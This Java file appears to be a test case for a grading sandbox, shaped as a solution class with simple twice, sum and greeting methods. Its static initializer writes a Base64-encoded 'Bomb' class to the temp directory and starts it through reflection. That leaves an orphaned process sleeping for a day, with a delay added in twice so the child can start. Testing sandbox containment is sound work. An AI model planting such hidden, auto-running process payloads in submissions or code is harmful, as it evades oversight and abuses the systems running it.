// Starts a process that starts another one, which sleeps for a day, and leaves it an orphan.
// expects: graded 10
// needs: walls
package attacked.target;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

public final class TargetSolution implements Target {
    /** A class that starts the command in its second argument and ends; the second time it sleeps 98765 seconds. */
    private static final String PROGRAM =
            "yv66vgAAAD0ARwoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClWCAAIAQABIAoACgALBwAM"
                    + "DAANAA4BABBqYXZhL2xhbmcvU3RyaW5nAQAFc3BsaXQBACcoTGphdmEvbGFuZy9TdHJpbmc7KVtMamF2YS9sYW5nL1N0cmlu"
                    + "ZzsHABABABNqYXZhL3V0aWwvQXJyYXlMaXN0CwASABMHABQMABUAFgEADmphdmEvdXRpbC9MaXN0AQACb2YBACUoW0xqYXZh"
                    + "L2xhbmcvT2JqZWN0OylMamF2YS91dGlsL0xpc3Q7CgAPABgMAAUAGQEAGShMamF2YS91dGlsL0NvbGxlY3Rpb247KVYIABsB"
                    + "AAU5ODc2NQsAEgAdDAAeAB8BAANhZGQBABUoTGphdmEvbGFuZy9PYmplY3Q7KVoIACEBAARvbmNlCAAjAQAFdHdpY2UKAAoA"
                    + "JQwAJgAfAQAGZXF1YWxzBwAoAQAYamF2YS9sYW5nL1Byb2Nlc3NCdWlsZGVyCgAnACoMAAUAKwEAEyhMamF2YS91dGlsL0xp"
                    + "c3Q7KVYKACcALQwALgAvAQAFc3RhcnQBABUoKUxqYXZhL2xhbmcvUHJvY2VzczsFAAAAAAXjCMgKADMANAcANQwANgA3AQAQ"
                    + "amF2YS9sYW5nL1RocmVhZAEABXNsZWVwAQAEKEopVgcAOQEAE2phdmEvbGFuZy9UaHJvd2FibGUFAAAAAAAAABQHAD0BAARC"
                    + "b21iAQAEQ29kZQEABG1haW4BABYoW0xqYXZhL2xhbmcvU3RyaW5nOylWAQANU3RhY2tNYXBUYWJsZQcAQwEAE1tMamF2YS9s"
                    + "YW5nL1N0cmluZzsBAApFeGNlcHRpb25zBwBGAQATamF2YS9sYW5nL0V4Y2VwdGlvbgAhADwAAgAAAAAAAgABAAUABgABAD4A"
                    + "AAARAAEAAQAAAAUqtwABsQAAAAAACQA/AEAAAgA+AAAAmAADAAQAAABuKgQyEge2AAlMuwAPWSu4ABG3ABdNLBIauQAcAgBX"
                    + "LCoEMrkAHAIAVyq+BaQAKiwSILkAHAIAVyoFMhIitgAkmQAQuwAnWSy3ACm2ACxXsRQAMLgAMrsAJ1kstwAptgAsV6f/9E4U"
                    + "ADq4ADKn/+oAAQBVAGEAZAA4AAEAQQAAABAAA/0ATwcAQgcAEgVOBwA4AEQAAAAEAAEARQAA";

    static {
        try {
            Path tmp = Path.of(System.getProperty("java.io.tmpdir"));
            Files.write(tmp.resolve("Bomb.class"), Base64.getDecoder().decode(PROGRAM));
            String java = System.getProperty("java.home") + "/bin/java";
            String start = java + " -Xmx16m -XX:TieredStopAtLevel=1 -cp " + tmp + " Bomb";
            List<String> command = new ArrayList<>(List.of(start.split(" ")));
            command.addAll(List.of("98765", start, "twice"));
            Object builder = Class.forName("java.lang.ProcessBuilder").getConstructor(List.class).newInstance(command);
            builder.getClass().getMethod("start").invoke(builder);
        } catch (IOException | ReflectiveOperationException | RuntimeException refused) {
            System.err.println(refused);
        }
    }

    public double[] twice(double[] values) {
        if (values.length == 1) {
            // The other process needs a moment to start its own.
            java.util.concurrent.locks.LockSupport.parkNanos(700_000_000);
        }
        double[] twice = new double[values.length];
        for (int i = 0; i < values.length; i++) {
            twice[i] = 2 * values[i];
        }
        return twice;
    }

    public double sum(double[] values) {
        double sum = 0;
        for (double value : values) {
            sum += value;
        }
        return sum;
    }

    public String greeting(String name) {
        return "Hello, " + name;
    }
}
